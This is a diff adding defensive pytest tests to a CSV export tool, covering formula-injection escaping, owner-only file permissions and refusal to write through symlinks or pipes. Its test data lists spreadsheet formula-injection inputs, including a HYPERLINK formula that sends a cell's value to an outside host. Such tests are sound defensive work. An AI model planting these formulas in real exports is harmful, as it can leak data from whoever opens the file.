@@ -4,7 +4,9 @@ import asyncio
 import csv
 import importlib.util
 import json
+import os
 import signal
+import stat
 from pathlib import Path
 from typing import Any
 
@@ -13,6 +15,7 @@ import pytest
 
 from support.commands import CommandLine, Process
 from syncline.cli import following
+from syncline.cli.exports import Format, open_sink
 
 INSERT = (
     "INSERT INTO syncline.signals (tenant_id, provider_slug, connection_id, kind, payload,"
@@ -57,6 +60,74 @@ def test_export_writes_csv(syncline: CommandLine, tmp_path: Path) -> None:
         rows = list(csv.DictReader(stream))
     assert [json.loads(row["payload"]) for row in rows] == [{"n": 1}, {"n": 2}, {"n": 3}]
     assert rows[0]["received_at"].endswith("Z")
+
+
+FORMULAS = [
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "  @x",
+    '=HYPERLINK("http://example.org?x="&A1)', "\uff1d1+1", "- a list", "\t",
+]  # fmt: skip
+HARMLESS = ["", "a=1", "key 1", "'=1", "1-2", "ada@example.org", " x", "#=1", "{=1}"]
+
+
+def test_no_cell_of_a_csv_is_a_formula(syncline: CommandLine, tmp_path: Path) -> None:
+    for text in FORMULAS + HARMLESS:
+        syncline.sql(
+            "INSERT INTO syncline.signals (tenant_id, provider_slug, connection_id, kind, payload,"
+            " dedupe_key) VALUES ('acme', 'demo', gen_random_uuid(), $1, to_jsonb($1::text), $1)",
+            text,
+        )
+    path = tmp_path / "signals.csv"
+
+    syncline("signals", "export", "--format", "csv", "--output", str(path))
+    lines = syncline("signals", "export").stdout.splitlines()
+
+    with path.open(newline="") as stream:
+        rows = list(csv.DictReader(stream))
+    expected = {f"'{text}" for text in FORMULAS} | set(HARMLESS)
+    for column in ("kind", "dedupe_key", "payload"):
+        assert {row[column] for row in rows} == expected
+    assert {json.loads(line)["kind"] for line in lines} == {*FORMULAS, *HARMLESS}
+
+
+def test_numbers_of_a_csv_stay_numbers(tmp_path: Path) -> None:
+    path = tmp_path / "numbers.csv"
+
+    with open_sink(Format.CSV, ["a", "b", "c", "d"], path) as sink:
+        sink.write([{"a": -1, "b": -0.5, "c": None, "d": True}])
+
+    assert path.read_text().splitlines()[1] == "-1,-0.5,,true"
+
+
+def test_an_export_is_its_owners_alone(syncline: CommandLine, tmp_path: Path) -> None:
+    store(syncline, 1, 3)
+    older = tmp_path / "signals.csv"
+    older.write_text("older")
+    older.chmod(0o644)
+    was_umask = os.umask(0)
+    try:
+        syncline("signals", "export", "--format", "csv", "--output", str(older))
+        syncline("tenants", "export", "acme", "--output", str(tmp_path / "acme.ndjson"))
+    finally:
+        os.umask(was_umask)
+
+    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in tmp_path.iterdir()}
+    assert modes == {"signals.csv": 0o600, "acme.ndjson": 0o600}
+
+
+@pytest.mark.parametrize("kind", ["link", "pipe"])
+def test_an_export_follows_no_link_and_replaces_no_device(
+    syncline: CommandLine, tmp_path: Path, kind: str
+) -> None:
+    store(syncline, 1, 3)
+    target, path = tmp_path / "another", tmp_path / "out"
+    target.write_text("mine")
+    path.symlink_to(target) if kind == "link" else os.mkfifo(path)
+
+    result = syncline("signals", "export", "--output", str(path))
+
+    assert (result.exit_code, "it is no regular file" in result.stderr) == (1, True)
+    assert target.read_text() == "mine"
+    assert {one.name for one in tmp_path.iterdir()} == {"another", "out"}
 
 
 @pytest.mark.skipif(not pyarrow_is_there, reason="pyarrow is not installed")
